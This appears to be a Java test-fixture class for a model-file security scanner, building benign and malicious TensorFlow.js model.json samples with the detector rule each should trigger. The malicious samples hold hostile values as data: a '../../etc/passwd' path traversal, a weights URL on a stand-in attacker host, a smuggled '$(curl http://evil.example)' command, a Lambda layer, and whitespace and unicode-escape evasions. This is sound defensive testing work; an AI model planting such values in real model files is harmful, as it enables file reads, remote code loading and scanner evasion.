package dev.assay.detectors.model.tfjs;

import static dev.assay.detectors.FlatBytes.join;

import dev.assay.detectors.model.FormatCase;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** Makes models of TensorFlow.js, good and bad. */
public final class TfjsSamples {
    private TfjsSamples() {}

    private static byte[] model(String layer, String path) {
        String json = "{\"format\":\"layers-model\",\"modelTopology\":{\"model_config\":{\"class_name\":\"Sequential\","
                + "\"config\":{\"layers\":[{\"class_name\":\"" + layer
                + "\",\"config\":{\"name\":\"dense_1\"}}]}}},\"weightsManifest\":[{\"paths\":[\"" + path
                + "\"],\"weights\":[{\"name\":\"dense_1/kernel\",\"shape\":[2,2],\"dtype\":\"float32\"}]}]}";
        return json.getBytes(StandardCharsets.UTF_8);
    }

    public static List<FormatCase> cases() {
        return List.of(
                FormatCase.of("model.json", model("Dense", "group1-shard1of1.bin")),
                FormatCase.of("parent.json", model("Dense", "../../etc/passwd"), "model/tfjs-weights-path"),
                FormatCase.of("address.json", model("Dense", "https://evil.example/w.bin"), "model/tfjs-weights-path"),
                FormatCase.of("lambda.json", model("Lambda", "group1-shard1of1.bin"), "model/keras-lambda"),
                FormatCase.of("command.json", model("Dense", "$(curl http://evil.example)"), "model/embedded-command"),
                FormatCase.of(
                        "white-space.json",
                        join("\n ".getBytes(StandardCharsets.UTF_8), model("Dense", "../../etc/passwd")),
                        "model/tfjs-weights-path"),
                FormatCase.of(
                        "escaped.json",
                        new String(model("Dense", "../../etc/passwd"), StandardCharsets.UTF_8)
                                .replace("modelTopology", "model\\u0054opology")
                                .getBytes(StandardCharsets.UTF_8),
                        "model/tfjs-weights-path"),
                FormatCase.of(
                        "broken.json", "{\"modelTopology\":{,}}".getBytes(StandardCharsets.UTF_8), "gap:malformed"));
    }

    public static Map<String, byte[]> all() {
        return FormatCase.bytesByName(cases());
    }
}
